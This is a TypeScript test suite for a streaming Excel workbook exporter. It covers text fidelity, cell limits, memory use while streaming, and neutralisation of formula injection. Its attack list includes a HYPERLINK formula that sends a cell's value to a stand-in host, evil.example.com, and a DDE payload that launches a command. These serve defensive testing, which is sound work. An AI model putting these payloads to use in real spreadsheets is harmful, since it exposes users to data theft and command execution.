import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import * as XLSX from 'xlsx'
import { isFormulaText } from '#domain/workbook/sheet-xml.ts'
import { parseZipDirectory } from '#domain/workbook/zip-directory.ts'
import { type WorkbookContent, createWorkbookStream } from '#features/workbook/service.ts'
import { repetitions } from '#tests/support/depth.ts'
import { PAYLOADS } from '#tests/support/hostile/payloads.ts'
import { findOffenders } from '#tests/support/offenders.ts'
import { readShown } from '#tests/support/workbooks.ts'

const writeBytes = async (content: Partial<WorkbookContent>) =>
  new Uint8Array(
    await new Response(
      createWorkbookStream({ sheetName: '导出', columns: [{ header: '名称' }], rows: [], ...content }),
    ).arrayBuffer(),
  )

/** The first sheet as SheetJS reads it, with every property a formula would have. */
function parsed(bytes: Uint8Array) {
  const book = XLSX.read(bytes, { type: 'array', dense: true, cellNF: true, cellFormula: true })
  const sheet = book.Sheets[book.SheetNames[0] ?? '']
  return { names: book.SheetNames, sheet, cells: (sheet?.['!data'] ?? []) as (XLSX.CellObject | undefined)[][] }
}

describe('a written workbook', () => {
  it('has its name, header, widths, numbers and text', async () => {
    const bytes = await writeBytes({
      sheetName: '成员[1]/导出',
      columns: [{ header: '名称', width: 30 }, { header: '流量' }],
      rows: [
        ['a<b>&"c"', 1.5],
        [null, -3],
        ['', Number.NaN],
        ['x', null],
      ],
    })
    const { names, cells } = parsed(bytes)
    expect(names).toEqual(['成员 1  导出'])
    expect(cells.map((row) => row.map((cell) => cell?.v))).toEqual([
      ['名称', '流量'],
      ['a<b>&"c"', 1.5],
      [undefined, -3],
      [undefined, 'NaN'],
      ['x'],
    ])
  })
  it('holds any text unchanged, but what XML cannot hold', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme', minLength: 1 }), { maxLength: 8 }), async (texts) => {
        // eslint-disable-next-line no-control-regex -- what XML 1.0 cannot hold
        const kept = texts.map((text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, ''))
        const { cells } = parsed(await writeBytes({ rows: texts.map((text) => [text]) }))
        expect(kept.map((_, i) => cells[i + 1]?.[0]?.v ?? '')).toEqual(kept)
      }),
      { numRuns: repetitions(60) },
    )
  })
  it.each(['_x0041_', 'a_x000D_b', 'tab\tcr\rlf\n', ' 两端 ', '👩‍👧', ']]>', '&amp;'])(
    '%j is unchanged',
    async (text) => {
      expect(parsed(await writeBytes({ rows: [[text]] })).cells[1]?.[0]?.v).toBe(text)
    },
  )
  it('holds markup as text, and what begins like a formula as none', async () => {
    const { cells } = parsed(await writeBytes({ rows: PAYLOADS.map((text) => [text]) }))
    for (const [i, text] of PAYLOADS.entries()) expect(cells[i + 1]?.[0]).toMatchObject({ t: 's', v: text })
    expect(cells.flat().filter((cell) => cell && 'f' in cell)).toEqual([])
  })
  it('cuts a cell at what Excel holds, between characters', async () => {
    const { cells } = parsed(await writeBytes({ rows: [[`${'a'.repeat(32_766)}👩`], ['b'.repeat(40_000)]] }))
    expect(String(cells[1]?.[0]?.v)).toBe('a'.repeat(32_766))
    expect(String(cells[2]?.[0]?.v)).toBe('b'.repeat(32_767))
  })
  it('has the rules of its columns below the header, where a column has one', async () => {
    const columns = [{ header: '账号', rule: '必填' }, { header: '备注' }]
    expect(await readShown(await writeBytes({ columns, rows: [['a', 'b']] }))).toEqual([
      ['账号', '备注'],
      ['必填'],
      ['a', 'b'],
    ])
  })
  it('passes our own size guard', async () => {
    expect(await readShown(await writeBytes({ rows: [['一', '二']] }))).toEqual([['名称'], ['一', '二']])
  })
})

describe('formula injection', () => {
  const attacks = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=HYPERLINK("https://evil.example.com?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
  ]
  it('each attack is a text cell without a formula, quoted', async () => {
    const offenders = await findOffenders(attacks)(async (text) => {
      expect(isFormulaText(text)).toBe(true)
      const bytes = await writeBytes({ columns: [{ header: text }], rows: [[text]] })
      const { cells } = parsed(bytes)
      for (const row of cells) {
        expect(row[0]).toMatchObject({ t: 's', v: text, z: '@' })
        expect(row[0]).not.toHaveProperty('f')
      }
      const xml = Buffer.from(
        XLSX.CFB.find(XLSX.CFB.read(bytes, { type: 'array' }), 'sheet1.xml')?.content ?? [],
      ).toString()
      expect(xml).toMatch(/<c r="A2" s="2" t="inlineStr">/)
      expect(xml).not.toContain('<f>')
    })
    expect(offenders).toEqual([])
  })
  it.each(['张三', '1=1', 'a@b.cn', 'a-b', '（=）'])('%j is plain text', (text) => {
    expect(isFormulaText(text)).toBe(false)
  })
})

describe('50,000 rows', () => {
  const ROWS = 50_000
  const row = (i: number) => [`成员${i}`, `备注 ${(i * 7919) % 10_007}`, i, '=1+1']

  it(
    'are written with one segment in memory, as fast as they are taken, and read back equal',
    { timeout: 60_000 },
    async () => {
      let made = 0
      function* rows() {
        for (; made < ROWS; made++) yield row(made)
      }
      const stream = createWorkbookStream({
        sheetName: '成员',
        columns: ['名称', '备注', '序号', '公式'].map((header) => ({ header })),
        rows: rows(),
      })
      expect(made).toBe(0) // nothing is read ahead of the first byte taken
      const chunks: Uint8Array[] = []
      let [madeBefore, rowsAhead, longestChunk] = [0, 0, 0]
      for await (const chunk of stream) {
        rowsAhead = Math.max(rowsAhead, made - madeBefore) // rows turned into the one chunk in memory
        longestChunk = Math.max(longestChunk, chunk.length)
        madeBefore = made
        chunks.push(chunk)
      }
      const rowBytes = 300 // of XML, more than any of these takes
      expect(rowsAhead * rowBytes).toBeLessThan(256 * 1024)
      expect(longestChunk).toBeLessThan(64 * 1024)
      expect(chunks.length).toBeGreaterThan(100)

      const bytes = new Uint8Array(Buffer.concat(chunks))
      expect(parseZipDirectory(bytes)?.map(({ name }) => name)).toContain('xl/worksheets/sheet1.xml')
      const book = XLSX.read(bytes, { type: 'array', dense: true })
      const cells = (book.Sheets['成员']?.['!data'] ?? []) as XLSX.CellObject[][]
      expect(cells.length).toBe(ROWS + 1)
      const wrong = cells
        .slice(1)
        .findIndex((cell, i) => JSON.stringify(cell.map((value) => value?.v)) !== JSON.stringify(row(i)))
      expect(wrong).toBe(-1)
    },
  )
  it('leave other calls their turn after each segment', async () => {
    let turns = 0
    const count = () => {
      turns++
      turn = setImmediate(count)
    }
    let turn = setImmediate(count)
    const rows = Array.from({ length: 5_000 }, (_, i) => row(i))
    let chunks = 0
    for await (const _ of createWorkbookStream({ sheetName: '成员', columns: [{ header: '名称' }], rows })) chunks++
    clearImmediate(turn)
    const others = 30 // heads and descriptors of the other parts
    expect(chunks).toBeGreaterThan(others)
    expect(turns).toBeGreaterThanOrEqual(chunks - others)
  })
  it('end with the download: a client that leaves closes the query', async () => {
    let isClosed = false
    async function* endless() {
      try {
        for (let i = 0; ; i++) yield [`行${i}`]
      } finally {
        isClosed = true
      }
    }
    const reader = createWorkbookStream({ sheetName: 'a', columns: [{ header: 'a' }], rows: endless() }).getReader()
    for (let i = 0; i < 30; i++) await reader.read()
    await reader.cancel()
    expect(isClosed).toBe(true)
  })
  it('that fail midway error the stream', async () => {
    async function* failing() {
      yield ['a']
      throw new Error('database is gone')
    }
    await expect(writeBytes({ rows: failing() })).rejects.toThrow('database is gone')
  })
})
